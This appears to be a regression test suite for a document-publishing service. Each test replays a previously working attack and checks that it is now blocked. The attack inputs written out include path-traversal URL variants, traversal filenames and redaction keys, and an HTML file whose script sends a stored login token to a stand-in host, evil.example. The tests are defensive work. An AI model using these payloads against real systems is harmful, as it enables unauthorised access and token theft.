import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { request } from 'node:http';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LOCAL_NAMES } from '../../infra/local/names';
import type { LocalRuntime } from '../../infra/local/runtime';
import { fromRoot } from '../../infra/paths';
import { ApiClient, DEMO_METADATA, startTestRuntime, tempDataDir, upload, waitForStatus } from './support';

// Made-up numbers with valid check characters (GB 11643 / mobile format), as in rules.test.ts.
const ID_NUMBER = '11010519491231002X';
const MOBILE = '13912345678';

/** A GET whose path goes out exactly as written: fetch and URL would normalise "%2e%2e/" and friends. */
function rawGet(
  base: string,
  path: string,
): Promise<{ status: number; headers: Record<string, unknown>; body: Buffer }> {
  const { hostname, port } = new URL(base);
  return new Promise((resolvePromise, reject) => {
    const req = request({ host: hostname, port, path, method: 'GET' }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () =>
        resolvePromise({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks) }),
      );
      res.on('error', reject);
    });
    req.on('error', reject);
    req.end();
  });
}

/** A small valid 24-bit BMP: BITMAPFILEHEADER (14) + BITMAPINFOHEADER (40) + 2×2 pixels (rows padded to 4 bytes). */
function bmp(): Uint8Array {
  const width = 2;
  const height = 2;
  const rowBytes = Math.ceil((width * 3) / 4) * 4;
  const pixels = rowBytes * height;
  const b = Buffer.alloc(54 + pixels);
  b.write('BM', 0, 'latin1');
  b.writeUInt32LE(b.length, 2);
  b.writeUInt32LE(54, 10); // pixel data offset
  b.writeUInt32LE(40, 14); // DIB header size
  b.writeInt32LE(width, 18);
  b.writeInt32LE(height, 22);
  b.writeUInt16LE(1, 26); // planes
  b.writeUInt16LE(24, 28); // bits per pixel
  b.writeUInt32LE(0, 30); // BI_RGB
  b.writeUInt32LE(pixels, 34);
  b.writeInt32LE(2835, 38); // 72 dpi
  b.writeInt32LE(2835, 42);
  for (let y = 0; y < height; y++) for (let x = 0; x < width; x++) b.set([0x00, 0x00, 0xff], 54 + y * rowBytes + x * 3); // red (BGR)
  return new Uint8Array(b);
}

/**
 * Issue 8, attack regressions on the running system: each test reproduces an attack that worked
 * before the fixes (items 1, 2, 4, 5, 6, 9) and shows it no longer does.
 */
describe('issue 8: attacks on the local runtime', () => {
  const data = tempDataDir();
  let runtime: LocalRuntime;
  let uploader: ApiClient;
  let reviewer: ApiClient;
  let leader: ApiClient;
  let anonymous: ApiClient;

  beforeAll(async () => {
    // The dashboard's CSP is only served when there is a dashboard to serve: build it if missing
    // (dashboard/dist is ignored by git; the build is left for later runs).
    if (!existsSync(fromRoot('dashboard/dist/index.html'))) {
      execFileSync('npx', ['vite', 'build', '--config', 'dashboard/vite.config.ts'], {
        cwd: fromRoot('.'),
        stdio: 'ignore',
      });
    }
    runtime = await startTestRuntime(data.dir);
    uploader = await new ApiClient(runtime.url).login('zhang.wei');
    reviewer = await new ApiClient(runtime.url).login('wang.fang');
    leader = await new ApiClient(runtime.url).login('li.na');
    anonymous = new ApiClient(runtime.url);
  });

  afterAll(async () => {
    await runtime?.stop();
    data.remove();
  });

  async function taskFor(client: ApiClient, documentId: string, kind: string) {
    await runtime.workflow.settled();
    const tasks = (await client.get('/api/tasks')).body.entries as Array<{
      id: string;
      documentId: string;
      kind: string;
    }>;
    const task = tasks.find((t) => t.documentId === documentId && t.kind === kind);
    expect(task, `an open ${kind} task for ${documentId}`).toBeDefined();
    return task as { id: string };
  }

  async function approve(documentId: string) {
    await waitForStatus(uploader, documentId, 'AWAITING_SIGNOFF');
    const task = await taskFor(leader, documentId, 'signoff');
    expect((await leader.post(`/api/tasks/${task.id}/decision`, { decision: 'approve' })).status).toBe(200);
  }

  /** Registers a document and PUTs its bytes, keeping the presigned URL for a later re-PUT. */
  async function register(metadata: Record<string, unknown>, bytes: string | Uint8Array) {
    const created = await uploader.post('/api/documents', metadata);
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const { id, uploadUrl } = created.body as { id: string; uploadUrl: string };
    await put(uploadUrl, String(metadata.contentType), bytes);
    return { id, uploadUrl };
  }

  async function put(url: string, contentType: string, bytes: string | Uint8Array) {
    const res = await fetch(url, {
      method: 'PUT',
      headers: { 'content-type': contentType },
      body: typeof bytes === 'string' ? bytes : Buffer.from(bytes),
    });
    expect(res.ok, `PUT ${res.status}`).toBe(true);
  }

  async function publish(text: string, metadata: Record<string, unknown> = {}) {
    const id = await upload(uploader, text, { ...DEMO_METADATA, ...metadata });
    await approve(id);
    return waitForStatus(uploader, id, 'PUBLISHED');
  }

  async function publicCopyUrl(doc: { id: string; indexNumber: string }) {
    const year = doc.indexNumber.slice(8, 12);
    const entry = (await anonymous.get(`/api/catalog?year=${year}`)).body.entries.find(
      (e: { documentId: string }) => e.documentId === doc.id,
    );
    expect(entry, `the catalogue entry of ${doc.id}`).toBeDefined();
    return entry.url as string;
  }

  const text = (bytes: Uint8Array) => Buffer.from(bytes).toString('utf8');
  const notes = (doc: { history: Array<{ note?: { code: string } }> }) => doc.history.map((e) => e.note?.code);

  it('item 1: an encoded path under /public/ never reaches the intake bucket (a redacted document’s original stays private)', async () => {
    const original = `申请人张某，身份证号${ID_NUMBER}，联系电话${MOBILE}。`;
    const id = await upload(uploader, original, { ...DEMO_METADATA, title: '救助公示（含个人信息）' });
    await waitForStatus(uploader, id, 'IN_REVIEW');
    const review = await taskFor(reviewer, id, 'review');
    const slot = await reviewer.post(`/api/tasks/${review.id}/redaction`, { contentType: 'text/plain' });
    expect(slot.status).toBe(201);
    const clean = '申请人张某，身份证号***，联系电话***。';
    await put(slot.body.uploadUrl, 'text/plain', clean);
    const redacted = await reviewer.post(`/api/tasks/${review.id}/decision`, {
      decision: 'redact',
      redactionKey: slot.body.redactionKey,
    });
    expect(redacted.status).toBe(200);
    await approve(id);
    const published = await waitForStatus(uploader, id, 'PUBLISHED');
    // The public copy is fine ...
    const url = await publicCopyUrl(published);
    expect((await rawGet(runtime.url, url)).body.toString('utf8')).toBe(clean);

    // A withdrawn document and a second published one, for the other variants.
    const other = await publish('另一份公开文件。', { title: '另一份公开文件' });
    const withdrawn = await publish('将被撤回的文件。', { title: '将被撤回的文件' });
    const withdrawnUrl = await publicCopyUrl(withdrawn);
    expect((await rawGet(runtime.url, withdrawnUrl)).status).toBe(200);
    expect((await uploader.post(`/api/documents/${withdrawn.id}/withdrawal`, { reason: '内容有误' })).status).toBe(201);

    const intake = LOCAL_NAMES.intakeBucket;
    const pinned = `pinned/${id}/${published.originalSha256}`;
    const attempts = [
      // The attack as reported: s3rver joined the decoded key into a file path.
      `/public/..%2F..%2F${intake}%2Fuploads%2F${id}`,
      `/public/..%2F..%2F${intake}%2F${pinned.replaceAll('/', '%2F')}`,
      `/public/..%2f..%2f${intake}%2fuploads%2f${id}`,
      `/public/${id}/..%2F..%2F..%2F${intake}%2Fuploads%2F${id}`,
      // Dots and slashes encoded; encoded dots resolved into a segment that stays under /public/.
      `/public/%2e%2e%2f%2e%2e%2f${intake}%2fuploads%2f${id}`,
      `/public/${id}/%2e%2e/..%2F..%2F${intake}%2Fuploads%2F${id}`,
      // Double-encoded: decoded twice by someone along the way.
      `/public/..%252F..%252F${intake}%252Fuploads%252F${id}`,
      `/public/%252e%252e%252f%252e%252e%252f${intake}%252fuploads%252f${id}`,
      // Backslashes, which some file APIs take as separators.
      `/public/..%5C..%5C${intake}%5Cuploads%5C${id}`,
      // A well-formed public key of another document: its id with this one's file, and an uncorrected correction.
      `/public/${id}/${other.id}.txt`,
      `/public/${other.id}/${id}.txt`,
      `/public/${id}/corrections/1.txt`,
      // The copy of a withdrawn document is no longer handed out, nor its original.
      withdrawnUrl,
      `/public/..%2F..%2F${intake}%2Fuploads%2F${withdrawn.id}`,
    ];
    const secret = Buffer.from(ID_NUMBER);
    for (const path of attempts) {
      const res = await rawGet(runtime.url, path);
      expect({ path, leaks: res.body.includes(secret) }).toEqual({ path, leaks: false });
      expect(res.body.includes(Buffer.from('将被撤回的文件')), path).toBe(false);
      expect({ path, status: res.status }).toEqual({ path, status: 404 });
    }

    // Encoded dots with plain slashes: the URL parser resolves "%2e%2e/" as "../" before any route
    // sees the path, so these ask for /gongkai-intake/uploads/<id>, outside /public/. What answers
    // is the dashboard's page (its fallback for every path it does not know), never the upload.
    const page = readFileSync(fromRoot('dashboard/dist/index.html'));
    for (const path of [`/public/%2e%2e/%2e%2e/${intake}/uploads/${id}`, `/public/.%2e/.%2e/${intake}/uploads/${id}`]) {
      const res = await rawGet(runtime.url, path);
      expect(res.body.includes(secret), path).toBe(false);
      expect(res.body.equals(page), path).toBe(true);
    }
  });

  it('item 2: a published HTML file with <script> is served as a sandboxed download; the dashboard allows only its own scripts', async () => {
    const html =
      '<!doctype html><html><head><title>通知</title></head><body><p>各学校：请做好冬季供暖保障工作。</p>' +
      '<script>fetch("https://evil.example/?t="+localStorage.getItem("token"))</script></body></html>';
    const published = await publish(html, {
      title: '含脚本的网页通知',
      filename: 'notice.html',
      contentType: 'text/html',
    });
    const res = await rawGet(runtime.url, await publicCopyUrl(published));
    expect(res.status).toBe(200);
    expect(res.body.toString('utf8')).toBe(html); // exactly what was signed off, but it cannot run:
    expect(String(res.headers['content-disposition'])).toMatch(/^attachment\b/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    const csp = String(res.headers['content-security-policy']);
    expect(csp.split(';').map((d) => d.trim())).toContain('sandbox');
    expect(csp).toMatch(/default-src 'none'/);

    expect(runtime.dashboardBuilt).toBe(true);
    for (const path of ['/', '/index.html', '/catalog']) {
      const page = await rawGet(runtime.url, path);
      expect(page.status, path).toBe(200);
      const policy = String(page.headers['content-security-policy']);
      const scriptSrc = policy
        .split(';')
        .map((d) => d.trim())
        .find((d) => d.startsWith('script-src'));
      expect(scriptSrc, path).toBe("script-src 'self'");
      expect(page.headers['x-content-type-options'], path).toBe('nosniff');
    }
  });

  it('item 4: bytes PUT again after the scan, before and after approval and after publication, change nothing and are audited', async () => {
    const scanned = '各学校：请做好冬季供暖保障工作。';
    const swapped = (n: number) => `各学校：第${n}次替换。身份证号${ID_NUMBER}。`;
    const { id, uploadUrl } = await register({ ...DEMO_METADATA, title: '扫描后替换内容' }, scanned);
    const waiting = await waitForStatus(uploader, id, 'AWAITING_SIGNOFF');
    const pinnedKey = waiting.contentKey as string;
    expect(pinnedKey).toMatch(new RegExp(`^pinned/${id}/${waiting.sha256}$`));

    // After the review, before the approval.
    await put(uploadUrl, 'text/plain', swapped(1));
    await runtime.workflow.settled();
    const task = await taskFor(leader, id, 'signoff');
    expect((await leader.post(`/api/tasks/${task.id}/decision`, { decision: 'approve' })).status).toBe(200);
    // Right after the approval, while routing and publication run.
    await put(uploadUrl, 'text/plain', swapped(2));
    const published = await waitForStatus(uploader, id, 'PUBLISHED');
    await runtime.workflow.settled();
    expect(published.sha256).toBe(waiting.sha256);
    expect(published.signedOffSha256).toBe(waiting.sha256);
    const url = await publicCopyUrl(published);
    const copy = await rawGet(runtime.url, url);
    expect(copy.body.toString('utf8')).toBe(scanned);

    // After publication.
    await put(uploadUrl, 'text/plain', swapped(3));
    await runtime.workflow.settled();
    const after = (await uploader.get(`/api/documents/${id}`)).body;
    expect(after.status).toBe('PUBLISHED');
    expect(after.contentKey).toBe(pinnedKey);
    expect(after.sha256).toBe(waiting.sha256);
    expect(text((await runtime.deps.files.readOriginal(pinnedKey)).bytes)).toBe(scanned);
    expect((await rawGet(runtime.url, url)).body.toString('utf8')).toBe(scanned);
    const ignored = after.history.filter((e: { note?: { code: string } }) => e.note?.code === 'upload-ignored');
    expect(ignored).toHaveLength(3);
    expect(ignored.every((e: { from: string; to: string }) => e.from === e.to)).toBe(true);
    // One run, one scan: nothing the re-PUTs did started a second review.
    expect(after.history.filter((e: { to: string; from: string }) => e.to === 'CLEARED')).toHaveLength(1);
    expect(notes(after)).not.toContain('rescan-clear');
  });

  it('item 4: a redacted version PUT again after its clean re-scan is not what gets published', async () => {
    const original = `申请人张某，身份证号${ID_NUMBER}。经审核，符合救助条件。`;
    const id = await upload(uploader, original, { ...DEMO_METADATA, title: '脱敏后替换内容' });
    await waitForStatus(uploader, id, 'IN_REVIEW');
    const review = await taskFor(reviewer, id, 'review');
    const slot = await reviewer.post(`/api/tasks/${review.id}/redaction`, { contentType: 'text/plain' });
    expect(slot.status).toBe(201);
    const clean = '申请人张某，身份证号***。经审核，符合救助条件。';
    await put(slot.body.uploadUrl, 'text/plain', clean);
    expect(
      (
        await reviewer.post(`/api/tasks/${review.id}/decision`, {
          decision: 'redact',
          redactionKey: slot.body.redactionKey,
        })
      ).status,
    ).toBe(200);
    const waiting = await waitForStatus(uploader, id, 'AWAITING_SIGNOFF'); // re-scanned clean
    expect(notes(waiting)).toContain('rescan-clear');
    // The redaction URL again, now with the ID number, then the approval.
    await put(slot.body.uploadUrl, 'text/plain', original);
    await approve(id);
    const published = await waitForStatus(uploader, id, 'PUBLISHED');
    expect(published.sha256).toBe(waiting.sha256);
    const copy = await rawGet(runtime.url, await publicCopyUrl(published));
    expect(copy.body.toString('utf8')).toBe(clean);
    expect(copy.body.includes(Buffer.from(ID_NUMBER))).toBe(false);
    // The agency's original is kept, pinned, as evidence.
    expect(text((await runtime.deps.files.readOriginal(published.originalKey)).bytes)).toBe(original);
  });

  it('item 5: a filename with ../ writes nothing outside the data directory and downloads under a harmless name', async () => {
    const stem = `x-${randomBytes(6).toString('hex')}`;
    const filename = `../../../../tmp/${stem}.txt`;
    const published = await publish('文件名含路径的通知。', { title: '文件名含路径', filename });
    expect(published.filename).toBe(filename); // kept for display, never as a path

    // Wherever ../../../../ could have led from the data directory's folders: nothing there.
    const dirs = [data.dir, join(data.dir, 's3'), join(data.dir, 's3', LOCAL_NAMES.publicBucket)];
    const walk = (dir: string, depth: number): string[] =>
      depth === 0 || !existsSync(dir)
        ? []
        : readdirSync(dir).flatMap((name) => {
            const path = join(dir, name);
            return statSync(path).isDirectory() ? [path, ...walk(path, depth - 1)] : [];
          });
    const candidates = new Set<string>([`/tmp/${stem}.txt`]);
    for (const dir of [...dirs, ...walk(join(data.dir, 's3'), 5)]) {
      candidates.add(resolve(dir, filename));
      candidates.add(resolve(dir, `${filename}._S3rver_object`));
    }
    for (const path of candidates) expect(existsSync(path), path).toBe(false);
    const strays = readdirSync('/tmp').filter((name) => name.startsWith(stem));
    expect(strays).toEqual([]);

    const copy = await rawGet(runtime.url, await publicCopyUrl(published));
    expect(copy.status).toBe(200);
    const disposition = String(copy.headers['content-disposition']);
    expect(disposition).toMatch(/^attachment\b/);
    expect(disposition).toContain(`filename="${stem}.txt"`);
    expect(disposition).not.toMatch(/\.\.|%2F|\/|\\/i);
  });

  it('item 6: a redactionKey that climbs into another document’s upload is refused naming redactionKey; nothing of it is published', async () => {
    const secretText = `另一份文件的内容：身份证号${ID_NUMBER}。`;
    const otherId = await upload(uploader, secretText, { ...DEMO_METADATA, title: '另一份待审文件' });
    await waitForStatus(uploader, otherId, 'IN_REVIEW');
    const id = await upload(uploader, `联系人手机${MOBILE}`, { ...DEMO_METADATA, title: '借用他人文件' });
    await waitForStatus(uploader, id, 'IN_REVIEW');
    const review = await taskFor(reviewer, id, 'review');
    for (const key of [
      `redactions/${id}/../../uploads/${otherId}`,
      `redactions/${id}/..%2F..%2Fuploads%2F${otherId}`,
      `uploads/${otherId}`,
    ]) {
      const res = await reviewer.post(`/api/tasks/${review.id}/decision`, { decision: 'redact', redactionKey: key });
      expect({ key, status: res.status }).toEqual({ key, status: 400 });
      expect(res.body.error.message).toContain('redactionKey');
    }
    await runtime.workflow.settled();
    const doc = (await uploader.get(`/api/documents/${id}`)).body;
    expect(doc.status).toBe('IN_REVIEW');
    expect(doc.contentKey).toMatch(new RegExp(`^pinned/${id}/`));
    expect(doc.redactionPending).toBeUndefined();
    expect(text((await runtime.deps.files.readOriginal(doc.contentKey)).bytes)).toBe(`联系人手机${MOBILE}`);
    const other = (await uploader.get(`/api/documents/${otherId}`)).body;
    expect(other.status).toBe('IN_REVIEW');
    const catalog = (await anonymous.get(`/api/catalog?q=${encodeURIComponent('另一份文件的内容')}`)).body;
    expect(catalog.entries).toEqual([]);
    // The task is still open: the reviewer can go on with a proper decision.
    expect((await reviewer.get('/api/tasks')).body.entries.map((t: { id: string }) => t.id)).toContain(review.id);
  });

  it('item 9: a BMP image uploaded as text/plain ends FAILED naming the mismatch; the original stays in the intake bucket', async () => {
    const image = bmp();
    const id = await upload(uploader, image, { ...DEMO_METADATA, title: '位图冒充文本', filename: 'scan.txt' });
    const failed = await waitForStatus(uploader, id, 'FAILED');
    expect(failed.failure).toMatchObject({ step: 'Intake', kind: 'input', failedIn: 'RECEIVED' });
    expect(failed.failure.error).toBe('registered as text/plain but the file is an image');
    expect(failed.findings).toBeUndefined();
    expect(failed.indexNumber).toBeUndefined();
    const kept = await runtime.deps.files.readOriginal(failed.objectKey);
    expect(Buffer.from(kept.bytes).equals(Buffer.from(image))).toBe(true);
  });
});
